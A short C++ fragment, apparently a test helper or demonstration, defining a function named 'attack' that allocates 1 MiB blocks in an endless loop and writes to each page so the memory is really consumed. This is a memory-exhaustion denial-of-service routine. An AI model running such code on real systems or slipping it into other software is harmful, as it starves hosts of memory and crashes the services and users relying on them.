// Takes memory without an end
#include <unistd.h>
#include <stdlib.h>
inline void attack() {
  for (;;) {
    char* page = new char[1 << 20];
    for (int i = 0; i < 1 << 20; i += 4096) page[i] = 1;
  }
}
